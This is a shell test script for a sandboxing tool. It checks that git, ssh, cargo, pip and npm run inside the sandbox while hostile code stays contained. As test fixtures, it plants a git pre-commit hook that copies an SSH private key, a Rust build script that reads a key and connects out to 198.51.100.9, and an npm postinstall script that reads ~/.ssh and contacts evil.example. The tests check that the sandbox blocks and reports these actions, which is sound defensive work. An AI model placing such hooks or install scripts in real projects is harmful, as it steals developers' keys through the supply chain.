#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# timeout: 400
# The profiles for developers with the real programs, as this machine configures them: git to a server, ssh to one, cargo,
# pip from a directory, and npm from its registry when that can be reached.
. "$TOP_SRCDIR/tests/lib/tap.sh"

mkdir -p "$HOME/.ssh" project
chmod 700 "$HOME/.ssh"
echo TOPSECRET > "$HOME/.ssh/id_rsa"
printf '[user]\n\tname = A User\n\temail = user@example.org\n[init]\n\tdefaultBranch = main\n' > "$HOME/.gitconfig"
top=$PWD
tool() { # ARG...: sbox, with time for a real program
	run timeout -k 5 120 "$SBOX" "$@"
}
ends_with() { # DESC WHAT: the last run's status is 0, and it printed WHAT
	if [ "$status" = 0 ] && [[ $out == *"$2"* ]]; then pass "$1"; else fail "$1" "$(tap_context)"; fi
}
ended() {
	for pid in "${servers[@]:-}"; do
		[ -z "$pid" ] || kill "$pid" 2> /dev/null
	done
}
servers=()
trap ended EXIT
port_of() { # FILE: where a server wrote its port, once it has
	local i
	for ((i = 0; i < 200; i++)); do
		[ ! -s "$1" ] || break
		sleep 0.05
	done
	cat "$1"
}

# ---- git ----
if have git; then
	git init -q --bare up.git
	git -C up.git config http.receivepack true
	cat > server.py << 'END'
# git-http-backend behind a web server.
import http.server, os, subprocess, sys
class Git(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path, _, query = self.path.partition("?")
        env = dict(os.environ, GIT_PROJECT_ROOT=os.getcwd(), GIT_HTTP_EXPORT_ALL="1", PATH_INFO=path, QUERY_STRING=query,
                   REQUEST_METHOD=self.command, CONTENT_TYPE=self.headers.get("Content-Type", ""), REMOTE_USER="tester",
                   HTTP_CONTENT_ENCODING=self.headers.get("Content-Encoding", ""), GIT_PROTOCOL=self.headers.get("Git-Protocol", ""))
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        answer = subprocess.run([sys.argv[1]], input=body, env=env, stdout=subprocess.PIPE, check=False).stdout
        head, _, rest = answer.partition(b"\r\n\r\n")
        fields = [line.split(": ", 1) for line in head.decode().splitlines()]
        self.send_response(int(dict(fields).get("Status", "200").split()[0]))
        for name, value in fields:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)
    do_POST = do_GET
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Git)
with open("server.port.new", "w") as f:
    f.write(str(server.server_port))
os.rename("server.port.new", "server.port")
server.serve_forever()
END
	backend=$(git --exec-path)/git-http-backend
	cd project || exit 1
	tool --rw "$top/up.git" git clone -q "file://$top/up.git" by-file
	is "git: clones by path, a repository that is given" "$status" 0
	cd by-file || exit 1
	echo one > file
	tool git add file
	tool git commit -q -m "one"
	is "git: commits, as the user's configuration says who" "$(git log --format='%an: %s')" "A User: one"
	tool --rw "$top/up.git" git push -q origin HEAD:main
	is "git: pushes by path" "$(git -C "$top/up.git" log --format=%s main)" one
	git branch -q topic
	tool git switch topic
	is "git: changes the branch" "$status" 0
	tool git status --porcelain
	is "git: status" "$out" ""
	tool git remote add other https://example.org/x
	refused "git: the configuration is protected"
	has "git: ... which is said" "$err" .git/config
	tool --report git remote add other https://example.org/x
	has "git: ... and the report has the option" "$err" "--rw=$PWD/.git/config"
	tool --rw .git/config git remote add other https://example.org/x
	is "git: ... which works" "$(git remote)" "origin
other"
	printf '#!/bin/sh\ncat ~/.ssh/id_rsa > stolen; echo evil > .git/hooks/post-commit; true\n' > .git/hooks/pre-commit
	chmod 755 .git/hooks/pre-commit
	echo two >> file
	tool --report git commit -q -a -m two
	is "git: a hook runs inside" "$status $(cat stolen)" "0 "
	has "git: ... where the keys are not" "$err" "$HOME/.ssh/id_rsa is not visible"
	check "git: ... and makes no other" test ! -e .git/hooks/post-commit
	cd ..
	if [ -x "$backend" ]; then
		(cd "$top" && exec python3 server.py "$backend") &
		servers+=($!)
		port=$(port_of "$top/server.port")
		tool git clone -q "http://127.0.0.1:$port/up.git" by-http
		is "git: clones from a server on this machine" "$status $(cat by-http/file)" "0 one"
		cd by-http || exit 1
		echo three > three
		tool git add three
		tool git commit -q -m three
		tool git push -q origin HEAD:by-http
		is "git: pushes to it" "$(git -C "$top/up.git" log -1 --format=%s by-http 2>&1)" three
		tool --net=none git fetch
		refused "git: not with --net=none"
		cd ..
	else
		skip "git: a server" "git-http-backend is not installed"
	fi
	cd "$top" || exit 1
else
	skip "git" "git is not installed"
fi

# ---- ssh ----
sshd=/usr/sbin/sshd
if [ -x $sshd ] && have ssh && have ssh-agent; then
	mkdir server
	ssh-keygen -q -t ed25519 -N '' -f server/host
	ssh-keygen -q -t ecdsa -N '' -f server/host2
	rm -f "$HOME/.ssh/id_rsa"
	ssh-keygen -q -t ed25519 -N '' -f "$HOME/.ssh/id_ed25519"
	cp "$HOME/.ssh/id_ed25519.pub" server/keys
	python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])' > server/port
	port=$(cat server/port)
	printf '%s\n' "Port $port" "ListenAddress 127.0.0.1" "HostKey $top/server/host" "HostKey $top/server/host2" "AuthorizedKeysFile $top/server/keys" \
		"UsePAM no" "StrictModes no" "PidFile none" "Subsystem sftp internal-sftp" > server/config
	$sshd -D -f "$top/server/config" -E "$top/server/log" &
	servers+=($!)
	for ((i = 0; i < 200; i++)); do
		grep -q listening server/log 2> /dev/null && break
		sleep 0.05
	done
	: > "$HOME/.ssh/known_hosts"
	tool ssh -p "$port" -o StrictHostKeyChecking=accept-new 127.0.0.1 echo over there
	if [ "$status" = 255 ] && grep -q -i 'privilege separation\|not allowed because account\|fatal' server/log; then
		skip "ssh" "sshd does not serve this user: $(tail -n 1 server/log)"
	else
		is "ssh: runs a command there" "$out" "over there"
		is "ssh: ... and knows the server from now on" "$(wc -l < "$HOME/.ssh/known_hosts")" 1
		tool ssh -p "$port" 127.0.0.1 echo again
		is "ssh: ... without a word" "$out$err" again
		tool ssh -p "$port" 127.0.0.1 cat "$HOME/.ssh/id_ed25519.pub"
		has "ssh: what runs there is not in the sandbox" "$out" ssh-ed25519
		cd project || exit 1
		echo copied > to-copy
		tool --cwd=rw scp -q -P "$port" to-copy "127.0.0.1:$top/there"
		is "ssh: scp copies a file of the directory" "$(cat "$top/there" 2>&1)" copied
		tool --cwd=rw scp -q -P "$port" "127.0.0.1:$top/there" back
		is "ssh: ... and back" "$(cat back 2>&1)" copied
		# The agent's key, and no file of it.
		eval "$(ssh-agent -a "$top/agent.sock")" > /dev/null
		servers+=("$SSH_AGENT_PID")
		ssh-add -q "$HOME/.ssh/id_ed25519"
		mv "$HOME/.ssh/id_ed25519" "$top/"
		tool ssh -p "$port" -o BatchMode=yes 127.0.0.1 echo in
		refused "ssh: no agent unless it is asked for"
		tool --set desktop.ssh-agent=yes ssh -p "$port" -o BatchMode=yes 127.0.0.1 echo in
		is "ssh: ... and then it signs" "$out" in
		if have git; then
			tool --set desktop.ssh-agent=yes --ro "$HOME/.ssh/known_hosts" git ls-remote "ssh://127.0.0.1:$port$top/up.git" main
			has "git: reaches a repository by ssh with the agent, and no key inside" "$out" refs/heads/main
		fi
		cd "$top" || exit 1
	fi
else
	skip "ssh" "openssh-server and openssh-client are not installed"
fi

# ---- what needs a network of its own ----
if ! have pasta || [ ! -w /dev/net/tun ]; then
	skip "rust, python, node" "pasta and a /dev/net/tun that users may open are needed"
	finish
fi
for name in node python rust agent; do
	mkdir -p "check-$name/.git/hooks"
	: > "check-$name/.git/config"
	run env -C "check-$name" "$SBOX" check --run $name
	is "$name: what [test] says holds inside" "$status" 0
done
for name in git ssh; do
	run env -C check-node "$SBOX" check --run $name
	is "$name: what [test] says holds inside" "$status" 0
done

# ---- rust ----
if [ -x /usr/bin/cargo ]; then
	mkdir -p crate/src crate/dep/src
	cd crate || exit 1
	printf '[package]\nname = "small"\nversion = "0.1.0"\nedition = "2021"\nbuild = "build.rs"\n[dependencies]\ndep = { path = "dep" }\n' > Cargo.toml
	printf '[package]\nname = "dep"\nversion = "0.1.0"\nedition = "2021"\n' > dep/Cargo.toml
	echo 'pub fn word() -> &'"'"'static str { "built" }' > dep/src/lib.rs
	echo 'fn main() { println!("{} {}", dep::word(), env!("STOLEN")); }' > src/main.rs
	cat > build.rs << 'END'
// Somebody's build script.
fn main() {
    let home = std::env::var("HOME").unwrap();
    let key = std::fs::read_to_string(home + "/.ssh/id_ed25519.pub").is_ok();
    let net = std::net::TcpStream::connect("198.51.100.9:80").is_ok();
    println!("cargo:rustc-env=STOLEN={}", key || net);
}
END
	tool --report cargo run -q --offline
	ends_with "rust: cargo builds and runs; the build script had nothing" "built false"
	has "rust: the report says what it tried" "$err" "$HOME/.ssh/id_ed25519.pub"
	has "rust: ... both" "$err" 198.51.100.9:80
	printf 'serde = "1"\n' >> Cargo.toml
	tool --set network.allow= --set network.allow=nowhere.invalid cargo fetch
	refused "rust: nothing is fetched from what is not listed"
	cd "$top" || exit 1
else
	skip "rust: cargo builds" "cargo is not installed for all users"
fi

# ---- python ----
if /usr/bin/python3 -c 'import ensurepip' 2> /dev/null; then
	mkdir -p py/index/pkg
	cd py || exit 1
	python3 - << 'END'
import zipfile
with zipfile.ZipFile("index/pkg/pkg-1.0-py3-none-any.whl", "w") as z:
    z.writestr("pkg.py", 'WORD = "it works"\n')
    z.writestr("pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n")
    z.writestr("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("pkg-1.0.dist-info/RECORD", "")
END
	echo '<a href="pkg-1.0-py3-none-any.whl">pkg</a>' > index/pkg/index.html
	tool --profile=python /usr/bin/python3 -m venv .venv
	is "python: a virtual environment" "$status" 0
	# As in an activated one: pip is the one of the environment, by PATH.
	VIRTUAL_ENV=$PWD/.venv PATH=$PWD/.venv/bin:$PATH tool pip install -q --disable-pip-version-check -i "file://$PWD/index" pkg
	is "python: pip installs from an index in the project" "$status" 0
	tool --profile=python .venv/bin/python -c 'import pkg, multiprocessing as m; print(pkg.WORD, m.Pool(2).map(abs, [-1, -2]))'
	is "python: ... what works, with processes of its own" "$out" "it works [1, 2]"
	cd "$top" || exit 1
else
	skip "python: pip" "python3-venv is not installed"
fi

# ---- node, as this machine's npm is configured ----
if ! have npm; then
	skip "node: npm installs from its registry" "npm is not installed"
elif ! timeout 30 npm view is-number version > view.log 2>&1; then
	skip "node: npm installs from its registry" "it cannot be reached from this machine: $(grep -m 1 -i error view.log)"
else
	mkdir -p js/evil
	cd js || exit 1
	echo '{"name":"evil","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}' > evil/package.json
	cat > evil/steal.js << 'END'
const fs = require("fs"), net = require("net"), dns = require("dns"), out = [];
function say(word) { out.push(word); if (out.length == 3) fs.writeFileSync("result", out.sort().join(" ")); }
try { fs.readdirSync(process.env.HOME + "/.ssh"); say("key"); } catch (e) { say("no-key"); }
dns.lookup("evil.example", e => say(e ? "no-name" : "name"));
net.connect(80, "198.51.100.9").on("error", () => say("no-address")).on("connect", () => say("address"));
END
	tar -czf evil-1.0.0.tgz --transform 's,^evil,package,' evil
	rm -r evil
	outside=$(npm config get cafile)
	tool npm config get cafile
	is "node: npm is configured inside as it is outside" "$out" "$outside"
	tool --report npm install --foreground-scripts is-number ./evil-1.0.0.tgz
	is "node: npm installs from the registry" "$status" 0
	is "node: a postinstall script had nothing" "$(cat node_modules/evil/result)" "no-address no-key no-name"
	has "node: the report says what it tried: the keys" "$err" "$HOME/.ssh"
	has "node: ... a name" "$err" evil.example
	has "node: ... an address" "$err" 198.51.100.9:80
	tool --profile=node node -p 'require("is-number")(5)'
	is "node: what was installed works" "$out" true
	tool npm ci
	is "node: again, from the cache and the lock file" "$status" 0
fi
finish
